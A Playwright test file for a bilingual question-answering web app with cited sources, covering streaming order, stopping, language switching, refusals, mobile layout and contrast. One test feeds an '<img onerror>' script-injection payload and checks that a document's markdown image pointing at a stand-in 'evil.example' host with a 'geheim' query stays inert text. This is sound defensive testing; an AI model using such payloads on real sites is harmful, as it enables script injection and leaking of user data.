import re
import time

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Open

GERMAN = "Warum begann der Pilot 21 Wochen später?"
ENGLISH = "Why did the refusal rate rise after the provider replaced the model version?"
# Notes the order in which sources, draft and finished answer come on screen.
WATCH = """() => {
  window.order = [];
  const look = () => {
    const parts = {sources: '.card', draft: '.answer.draft', answer: '.answer:not(.draft)'};
    for (const [name, selector] of Object.entries(parts)) {
      if (!window.order.includes(name) && document.querySelector(selector)) window.order.push(name);
    }
  };
  new MutationObserver(look).observe(document.body, {childList: true, subtree: true});
}"""


def ask(page: Page, question: str) -> None:
    page.locator("#question textarea").fill(question)
    page.keyboard.press("Enter")


def ask_and_wait(page: Page, question: str, number: int = 1) -> None:
    ask(page, question)
    expect(page.locator(f"#exchange-{number} .answer:not(.draft)")).to_be_visible()


def test_a_german_question_is_answered_with_sources(page: Page) -> None:
    ask_and_wait(page, GERMAN)
    expect(page.locator(".answer")).to_contain_text("Der Pilot begann 21 Wochen später als geplant.")
    expect(page.locator(".byline")).to_contain_text("Wörtliche Zitate aus den Fundstellen")
    expect(page.locator(".card mark").first).to_have_text("Der Pilot begann 21 Wochen später als geplant.")
    expect(page.locator("#question textarea")).to_have_value("")


def test_sources_are_on_screen_before_the_first_word(page: Page) -> None:
    page.evaluate(WATCH)
    ask_and_wait(page, ENGLISH)
    order = page.evaluate("window.order")
    assert order.index("sources") < order.index("answer")
    assert "draft" not in order or order.index("sources") < order.index("draft")
    expect(page.locator(".answer")).to_have_attribute("lang", "en")
    expect(page.locator(".card").first).to_contain_text("Silent model updates")


def test_a_citation_opens_its_source_with_the_quote_marked(page: Page) -> None:
    ask_and_wait(page, GERMAN)
    page.locator(".answer .cite").first.click()
    expect(page.locator('.card[aria-current="true"]')).to_have_count(1)
    reader = page.locator(".reader")
    expect(reader).to_be_focused()
    expect(reader.locator("mark")).to_have_text("Der Pilot begann 21 Wochen später als geplant.")
    expect(reader).to_contain_text("Maschinendaten werden zu Personendaten")
    page.keyboard.press("Escape")
    expect(reader).to_have_count(0)


def test_a_stopped_answer_keeps_its_sources_and_the_next_question_starts_at_once(page: Page) -> None:
    ask(page, ENGLISH)
    expect(page.locator("#exchange-1 .byline.waiting")).to_be_visible()
    page.locator("#stop").click()
    expect(page.locator("#exchange-1 .byline")).to_contain_text("Angehalten")
    expect(page.locator(".card").first).to_be_visible()
    start = time.monotonic()
    ask_and_wait(page, GERMAN, number=2)
    assert time.monotonic() - start < 15
    expect(page.locator("#exchange-1 .byline")).to_contain_text("Angehalten")


def test_a_new_question_replaces_a_running_answer(page: Page) -> None:
    ask(page, ENGLISH)
    expect(page.locator("#exchange-1 .byline.waiting")).to_be_visible()
    ask_and_wait(page, GERMAN, number=2)
    expect(page.locator("#exchange-1 .byline")).to_contain_text("Angehalten")
    expect(page.locator("#send")).to_be_visible()


def test_what_the_documents_do_not_hold_is_refused(page: Page) -> None:
    ask_and_wait(page, "Welche Lieblingsfarbe hat der Papagei des Bürgermeisters?")
    expect(page.locator(".answer.refused")).to_be_visible()
    expect(page.locator(".byline")).to_contain_text("Durchsucht: ")


def test_switching_the_language_keeps_the_conversation(page: Page) -> None:
    ask_and_wait(page, GERMAN)
    page.locator("#language label", has_text="EN").click()
    expect(page.get_by_role("tab", name="Documents")).to_be_visible()
    expect(page.locator(".byline")).to_contain_text("Word-for-word quotations")
    expect(page.locator(".question")).to_contain_text(GERMAN)
    expect(page.locator("#send")).to_have_text("Ask")
    expect(page.locator("html")).to_have_attribute("lang", "en")
    page.reload()
    expect(page.locator("#send")).to_have_text("Ask")


@pytest.mark.parametrize(("locale", "text"), [("de-AT", "Fragen"), ("en-GB", "Ask"), ("fr-FR", "Fragen")])
def test_the_page_opens_in_the_language_of_the_browser(open_page: Open, locale: str, text: str) -> None:
    page = open_page(locale=locale)
    expect(page.locator("#send")).to_have_text(text)


def test_an_example_is_asked_by_one_click(page: Page) -> None:
    question = page.locator(".example").first.inner_text()
    page.locator(".example").first.click()
    expect(page.locator(".question")).to_contain_text(question)
    expect(page.locator(".example")).to_have_count(0)


def test_shift_and_enter_start_a_new_line(page: Page) -> None:
    field = page.locator("#question textarea")
    field.fill("Eins")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("zwei")
    expect(field).to_have_value("Eins\nzwei")


def test_hostile_documents_and_questions_stay_text(page: Page) -> None:
    ask_and_wait(page, "Was verlangt der Lieferant Grauwacke? <img src=x onerror=\"document.title='verletzt'\">")
    expect(page.locator(".card").first).to_contain_text("Lieferant Grauwacke")
    page.locator(".card .card-title").first.click()
    expect(page.locator(".reader")).to_contain_text("![Logo](http://evil.example/?q=geheim)")
    assert page.locator(".reader img, .card img, .exchange img, .reader a").count() == 0
    expect(page).to_have_title("Assistent für KI-Projekte")


def test_two_browsers_share_nothing(open_page: Open) -> None:
    one, other = open_page(), open_page(locale="en-US")
    ask_and_wait(one, GERMAN)
    expect(other.locator(".exchange")).to_have_count(0)
    expect(other.locator("#send")).to_have_text("Ask")


@pytest.mark.parametrize("tab", ["Fragen", "Dokumente"])
def test_nothing_needs_sideways_scrolling_on_a_phone(open_page: Open, tab: str) -> None:
    page = open_page(viewport={"width": 390, "height": 844}, has_touch=True, is_mobile=True)
    ask_and_wait(page, GERMAN)
    page.get_by_role("tab", name=tab).click()
    expect(page.get_by_role("tab", name=tab)).to_have_attribute("aria-selected", "true")
    assert page.evaluate("document.documentElement.scrollWidth") <= 390


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_is_readable_in_light_and_dark(open_page: Open, scheme: str) -> None:
    page = open_page(color_scheme=scheme)
    ask_and_wait(page, GERMAN)
    found = [".answer p", ".byline", ".card-title", ".facts span", ".excerpt mark", ".status li", ".cite", "#send"]
    for selector in found:
        assert page.locator(selector).first.evaluate(CONTRAST) >= 4.5, selector


# Contrast of text and background after WCAG 2.2, 1.4.3.
CONTRAST = """(element) => {
  const parse = (c) => { const n = c.match(/[\\d.]+/g).map(Number); return n.length > 3 ? n : [...n, 1]; };
  const light = ([r, g, b]) => [r, g, b].map((v) => v / 255)
    .map((v) => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
  let back = element;
  while (back && parse(getComputedStyle(back).backgroundColor)[3] === 0) back = back.parentElement;
  const colours = [getComputedStyle(element).color, back ? getComputedStyle(back).backgroundColor : 'rgb(255,255,255)'];
  const [one, other] = colours.map((c) => light(parse(c))).sort((a, b) => b - a);
  return (one + 0.05) / (other + 0.05);
}"""


def test_nothing_of_gradio_is_offered(page: Page) -> None:
    expect(page.locator("footer")).to_have_count(0)
    assert not re.search(r"Use via API|Built with Gradio", page.locator("body").inner_text())
